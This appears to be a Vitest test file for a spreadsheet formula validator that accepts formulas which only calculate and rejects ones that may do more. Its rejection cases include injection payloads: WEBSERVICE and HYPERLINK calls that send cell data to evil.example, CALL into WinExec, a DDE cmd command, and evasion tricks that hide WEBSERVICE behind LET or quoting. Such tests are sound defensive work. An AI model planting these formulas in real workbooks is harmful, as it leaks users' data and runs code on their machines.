import { describe, expect, it } from "vitest";
import { onlyCalculates } from "../../src/formulas/calculating";

const answer = 'REGDATA.VALUE("06001",1056)';

describe("a frozen formula comes back unasked", () => {
  it.each([
    `=${answer}`,
    `=IFERROR(${answer},"none")`,
    `=_xlfn.XLOOKUP(A1,$B$2:$B$9,C:C)&regdata.value([@geoID],1056)`,
    "=REGDATA.MATRIX(Table1[geoID],'My sheet'!$1:$1)",
    `=SUM(Fees[[#This Row],[Fee (USD)]],-${answer},TRUE,1E5)`,
    "=REGDATA.MATRIX(A2#,Sheet1!B1:D1)",
    `=IF(${answer}="WEBSERVICE(""x"")",#N/A,'It''s'!B2)`,
  ])("where it only calculates: %s", (formula) => {
    expect(onlyCalculates(formula, "REGDATA")).toBe(true);
  });

  it.each([
    `=HYPERLINK("https://evil.example/?"&A1,${answer})`,
    `=${answer}&WEBSERVICE("https://evil.example/?"&A1)`,
    `=${answer}&webservice (A1)`,
    `=${answer}&CALL("Kernel32","WinExec","JC","calc")`,
    `=${answer}&cmd|'/c calc'!A0`,
    `=${answer}&'https://evil.example/[x.xlsx]S'!A1`,
    `=${answer}&[Book1.xlsx]Sheet1!A1`,
    `=${answer}&Book1.xlsx!secret`,
    `=${answer}&'Book 1.xlsx'!secret`,
    `=${answer}&INDIRECT(A1)`,
    `=${answer}&OTHER.ADDIN(A1)`,
    `=${answer}&REGDATA_DEV.VALUE(A1)`,
    // A name may stand for any formula.
    `=REGDATA.VALUE(secret,1056)`,
    `=REGDATA.VALUE(Sheet1!secret,1056)`,
    `=${answer}&x`,
    // A function may be called under another name.
    `=LET(SUM,WEBSERVICE,SUM(${answer}))`,
    `=MAP(${answer},WEBSERVICE)`,
    `=IF(1,WEBSERVICE,1)(${answer})`,
    // Quotes in a column's name must not hide what stands between them.
    `=REGDATA.VALUE(T[a"],1)&WEBSERVICE(A1)&T[b"]`,
    `=REGDATA.VALUE(T[a']"],1)&WEBSERVICE(A1)&T[b"]`,
    `=REGDATA.VALUE(T[a'],1)&WEBSERVICE(A1)&T[b']`,
  ])("not where it may do more: %s", (formula) => {
    expect(onlyCalculates(formula, "REGDATA")).toBe(false);
  });
});
